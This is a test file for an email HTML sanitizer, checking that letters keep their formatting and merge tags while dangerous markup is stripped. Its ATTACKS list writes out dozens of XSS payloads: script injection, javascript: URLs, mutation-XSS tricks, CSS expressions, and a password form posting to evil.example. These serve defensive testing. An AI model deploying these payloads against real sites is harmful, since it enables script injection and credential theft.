"""The HTML of a letter: what stays, what goes, and that nothing dangerous comes through in any combination."""

import re
import socket
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from apps.channels.email.html import inline_css, make_safe, to_text
from apps.core.merge_tags import compile_template

HARMLESS = """a abbr address b big blockquote br caption center cite code col colgroup dd del div dl dt em figcaption
    figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s small span strike strong sub sup table tbody td
    tfoot th thead tr tt u ul"""

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://x.example/a.png' onload='alert(1)'>",
    "<img src=`javascript:alert(1)`>",
    "<img src=data:image/svg+xml;base64,PHN2Zy8+>",
    "<img src=data:text/html;base64,PHN2Zy8+>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt&colon;alert(1)'>x</a>",
    "<a href='{{ a }}javascript:alert(1)'>x</a>",
    "<a href='java{{ a }}script:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<iframe src=https://evil.example></iframe>",
    "<form action=https://evil.example><input name=password><button>Send</button></form>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<style>p{background:url(javascript:alert(1))} @import 'https://evil.example/x.css';</style><p>x</p>",
    "<style></style><script>alert(1)</script>",
    "<style>p{color:red}</sty</style>le><img src=x onerror=alert(1)><p>x</p>",
    '<style>p{font-family:"</style><script>alert(1)</script>"}</style><p>x</p>',
    "<p style='background:url(https://evil.example/pixel)'>x</p>",
    "<p style='width:expression(alert(1))'>x</p>",
    "<p style='width:exp/**/ression(alert(1))'>x</p>",
    "<p style='background:u\\72l(x)'>x</p>",
    "<p style='behavior:url(x.htc);-moz-binding:url(x);position:fixed;z-index:9'>x</p>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<object data=x></object><embed src=x><applet code=x></applet>",
    "<video src=x onerror=alert(1)></video><audio src=x></audio>",
    "<!--[if gte mso 9]><script>alert(1)</script><![endif]-->",
    "<!-- --!> <img src=x onerror=alert(1)> -->",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><img title='</title><img src=x onerror=alert(1)>'></title>",
    "<template><img src=x onerror=alert(1)></template>",
    "<body onload=alert(1)><p onmouseover=alert(1)>x</p></body>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p\x00 onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    "<plaintext><script>alert(1)</script>",
]


class Found(HTMLParser):
    def __init__(self, markup):
        super().__init__()
        self.elements = []
        self.comments = []
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data):
        self.comments.append(data)


def assert_harmless(markup):
    found = Found(markup)
    assert not found.comments
    for tag, attributes in found.elements:
        assert tag in HARMLESS.split()
        assert not [name for name in attributes if name.startswith("on") or name in ("srcset", "action", "background")]
        assert re.match(r"(https?:|mailto:|tel:|#|\{\{|$)", attributes.get("href", ""))
        assert re.match(r"(https:|cid:|data:image/(png|jpe?g|gif|webp);base64,|\{\{|$)", attributes.get("src", ""))
        style = attributes.get("style", "").lower()
        assert not re.search(r"url|expression|behaviou?r|binding|position|z-index|@|\\|<|/\*", style)


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_dangerous_stays(attack):
    assert_harmless(make_safe(attack))
    assert_harmless(make_safe(f"<div><table><tr><td>{attack}</td></tr></table></div>"))


fragments = st.sampled_from(
    [*ATTACKS, "<p>", "</p>", "<table>", "<td>", "</style>", "<style>", "-->", "<!--", '"', "'", ">", "<", "{{ name }}"]
)


@given(st.lists(fragments | st.text(max_size=10), max_size=6).map("".join))
def test_nothing_dangerous_stays_in_any_combination(markup):
    safe = make_safe(markup)
    assert_harmless(safe)
    assert_harmless(inline_css(f"<html><body>{safe}</body></html>").partition("<body>")[2])
    assert make_safe(safe) == safe


LETTER = (
    '<h1 style="text-align: center">Trip</h1><p class="lead" dir="ltr">Dear <strong>family</strong>,<br>see '
    '<a href="https://school.example/a?b=1&amp;c=2">the page</a>, <a href="mailto:office@school.example">write</a> or '
    '<a href="tel:+34600000000">call</a>.</p><ul><li>one</li></ul><ol start="2"><li>two</li></ol>'
    '<table width="600" cellpadding="0"><tbody><tr><td colspan="2" bgcolor="#ffffff">x</td></tr></tbody></table>'
    '<img src="https://school.example/crest.png" alt="Crest" width="80"><img src="cid:1"><hr>'
    "<p style=\"color: rgb(1, 2, 3); font-family: Georgia, 'Times New Roman'; padding-left: 30px\">x</p>"
)


def test_what_a_letter_needs_stays_as_it_is():
    assert make_safe(LETTER) == LETTER


def test_a_whole_document_becomes_a_fragment_with_its_styles_written_in():
    document = """<!DOCTYPE html><html><head><title>Trip</title><style media="all">
        /* ours */ .red { color: red; position: fixed } #box td { padding: 3px } @media print { p { color: blue } }
        </style></head><body><p class="red">x</p><table id="box"><tr><td>1</td></tr></table></body></html>"""
    safe = make_safe(document)
    assert '<p class="red" style="color: red">x</p>' in safe
    assert '<td style="padding: 3px">1</td>' in safe
    assert "Trip" not in safe
    assert "<style" not in safe


def test_links_without_a_scheme():
    assert make_safe('<a href="www.school.example">x</a>') == '<a href="https://www.school.example">x</a>'
    assert make_safe('<a href="#menu">x</a>') == '<a href="#menu">x</a>'
    assert make_safe('<a href="/inside">x</a>') == "<a>x</a>"


TAGS = [
    ("{{ first_name }}", "first_name"),
    ('{{ group | default: "a & b" }}', "group"),
    ("{{ school | default: 'our school' }}", "school"),
]


@given(st.lists(st.sampled_from(TAGS), min_size=1, max_size=4), st.sampled_from(["", "<style>p{color:red}</style>"]))
def test_merge_tags_stay_whole_in_text_and_links(tags, style):
    source = style + "".join(
        f'<p title="x">{tag}<a href="{tag.replace("&", "&amp;").replace(chr(34), "&quot;")}">link</a></p>'
        for tag, _name in tags
    )
    safe = make_safe(source)
    names = {name for _tag, name in tags}
    assert compile_template(safe, "html").tags == names
    assert safe.count("{{") == 2 * len(tags)
    assert safe.count("href=") == len(tags)
    inlined = inline_css(f"<html><head>{style}</head><body>{safe}</body></html>")
    assert compile_template(inlined, "html").tags == names
    assert compile_template(to_text(safe), "text").tags == names
    values = {"first_name": "Zoë", "group": "2A", "school": "Sol"}
    assert compile_template(to_text(safe), "text").render(values) == to_text(
        compile_template(safe, "html").render(values)
    )


def test_a_link_to_unsubscribe_survives_the_whole_way():
    safe = make_safe('<p><a href="{{ unsubscribe_link }}" onclick="x()">Unsubscribe</a></p>')
    assert safe == '<p><a href="{{ unsubscribe_link }}">Unsubscribe</a></p>'
    assert to_text(safe) == "Unsubscribe ({{ unsubscribe_link }})"


def test_inlining_reads_no_file_and_no_network(tmp_path, monkeypatch):
    sheet = tmp_path / "secret.css"
    sheet.write_text("p { color: red }")
    monkeypatch.setattr(socket.socket, "connect", lambda *_: pytest.fail("went to the network"))
    for link in (sheet, sheet.as_uri(), "https://school.example/x.css"):
        document = f'<html><head><link rel="stylesheet" href="{link}"></head><body><p>x</p></body></html>'
        assert "red" not in inline_css(document)
        assert "red" not in make_safe(document)
        assert "red" not in inline_css(document.replace("<link", "<LINK data-x='>'"))


def test_rules_for_narrow_screens_stay_in_a_document():
    style = "<style>p{color:red}@media (max-width:9px){p{color:blue}}</style>"
    inlined = inline_css(f"<html><head>{style}</head><body><p>x</p></body></html>")
    assert '<p style="color: red;">x</p>' in inlined
    assert "@media (max-width:9px)" in inlined


def test_very_deep_and_very_long_letters_are_taken():
    deep = make_safe("<style>div{color:red}</style>" + "<div>" * 3000 + "x")
    assert to_text(deep) == "x"
    long = "<p>word &amp; word</p>" * 20_000
    assert make_safe(long) == long
    assert len(to_text(long)) == 20_000 * len("word & word\n\n") - 2


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("", ""),
        ("<p>one</p><p>two<br>three</p>", "one\n\ntwo\nthree"),
        ("<h1>Trip</h1><p>a   b\n c&nbsp;d</p>", "Trip\n\na b c d"),
        ("<p>a <b>b</b> <i> c</i></p>", "a b c"),
        ("a &lt;b&gt; &amp;amp; &euro;", "a <b> &amp; €"),
        ("<p>See <a href='https://a.example/x'>the page</a>.</p>", "See the page (https://a.example/x)."),
        ("<a href='https://a.example/'>https://a.example</a>", "https://a.example"),
        ("<a href='https://a.example/'>a.example</a>", "a.example"),
        ("<a href='mailto:a@b.example'>a@b.example</a>", "a@b.example"),
        ("<a href='mailto:a@b.example'>write</a>", "write (a@b.example)"),
        ("<a href='#top'>up</a> <a>plain</a>", "up plain"),
        ("<a href='https://a.example/'><img alt='Open'></a>", "[Open] (https://a.example/)"),
        ("<ul><li>one</li><li><p>two</p></li></ul>", "- one\n- two"),
        ("<ul><li>one<ul><li>a</li><li>b</li></ul></li><li>two</li></ul>", "- one\n  - a\n  - b\n- two"),
        ("<ol start='3'><li>c</li><li>d</li></ol>", "3. c\n4. d"),
        ("<table><tr><th>Day</th><th>Hour</th></tr><tr><td>Mon</td><td>9</td></tr></table>", "Day | Hour\nMon | 9"),
        ("<table><tr><td><p>a</p><p>b</p></td><td>c</td></tr></table>", "a\n\nb\n\nc"),
        ("<blockquote><p>a</p><p>b</p></blockquote>", "> a\n>\n> b"),
        ("<p>a</p><hr><p>b</p>", "a\n\n" + "-" * 40 + "\n\nb"),
        ("<pre>  a\n    b</pre>", "  a\n    b"),
        ("<div>a</div><div>b<div>c</div></div><div><br></div><div>d</div>", "a\nb\nc\n\nd"),
        ("<img src='cid:1' alt='Crest'><img src='cid:2' alt=''><img>", "[Crest]"),
        ("<style>p{}</style><script>x</script><title>t</title>a", "a"),
        ("<p>a</b></p></div>b", "a\n\nb"),
    ],
)
def test_the_readable_text_of_a_letter(html, text):
    assert to_text(html) == text


@given(st.text(max_size=200))
def test_any_input_gives_text_without_needless_blank_lines(markup):
    text = to_text(markup)
    assert "\n\n\n" not in text
    assert text == text.strip("\n")


@given(st.lists(st.text(st.characters(categories=["L", "N"]), min_size=1), max_size=8))
def test_every_word_of_a_letter_is_in_its_text(words):
    markup = "".join(f"<p>{word}</p>" for word in words)
    assert to_text(markup).split() == words
    assert to_text(make_safe(markup)).split() == words
